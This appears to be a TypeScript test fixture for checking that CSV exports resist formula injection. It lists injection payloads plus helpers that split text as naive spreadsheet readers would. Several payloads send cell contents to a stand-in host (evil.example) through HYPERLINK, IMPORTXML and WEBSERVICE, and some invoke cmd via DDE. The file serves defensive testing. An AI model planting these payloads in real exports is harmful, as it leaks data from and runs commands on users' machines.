// Formula payloads for the CSV exports and the two ways a spreadsheet (or a script) may read them back.

/** What a spreadsheet runs as a formula at the start of a cell (OWASP: = + - @ TAB CR). */
export const FORMULA = /^[=+\-@\t\r]/;

/**
 * Formulas at the start and behind every separator a reader might use (, ; TAB, line breaks) and
 * behind quotes, single and in runs. The finding's own name comes first.
 */
export const FORMULA_PAYLOADS = [
  'Ana Souza,=HYPERLINK("http://evil.example/?leak="&A1,"clique"),',
  '=1+1',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=cmd|\' /C notepad\'!\'A1\'',
  'Maria,=1+1',
  'Maria;=1+1',
  'Maria\t=1+1',
  'Maria, =1+1,@x',
  'Maria;+55 11 9999',
  'Maria,-1;@SUM(A1:A9)',
  'a,,=1',
  'a;;;@x',
  'a,;\t=1',
  'a,\t@x',
  'a"=1+1',
  'a",=1+1',
  'a";=1+1',
  '"=1+1"',
  '""=1+1',
  'a\'=1',
  'x,\'=1',
  'a\n=1+1',
  'a\r\n@x',
  'a\r=1',
  '=DDE("cmd";"/C calc";"!A0")A0',
  'Zé,=b;+c\t-d"@e',
  'pedido-8841,=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  'Fulano;=WEBSERVICE("http://evil.example/"&B2)',
];

/** Every piece a naive reader gets: the text split into lines (CRLF, CR or LF) and each line on `,`, `;` or TAB, each separator alone and all together. */
export function naivePieces(text: string): string[] {
  const pieces: string[] = [];
  for (const sep of [/,/, /;/, /\t/, /[,;\t]/]) {
    for (const line of text.split(/\r\n|\r|\n/)) pieces.push(...line.split(sep));
  }
  return pieces;
}

/** The pieces of a naive reading that would start a formula, also once the reader strips leading double quotes. */
export function formulaPieces(text: string): string[] {
  return naivePieces(text).filter((p) => FORMULA.test(p) || FORMULA.test(p.replace(/^"+/, '')));
}
